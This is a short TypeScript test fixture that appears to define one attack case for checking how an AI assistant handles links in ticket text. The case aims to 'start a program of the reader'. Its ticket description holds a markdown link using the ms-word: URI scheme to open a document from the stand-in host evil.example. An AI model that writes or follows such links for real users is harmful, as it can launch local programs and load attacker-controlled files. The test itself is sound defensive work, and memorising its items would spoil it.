import type { Attack } from '../attack.ts';

export default {
  aim: 'start a program of the reader',
  wall: 'links',
  also: 'hosts',
  ticket: { description: 'Open [the cart](ms-word:ofe%7Cu%7Chttps://evil.example/a.docx).' },
} satisfies Attack;
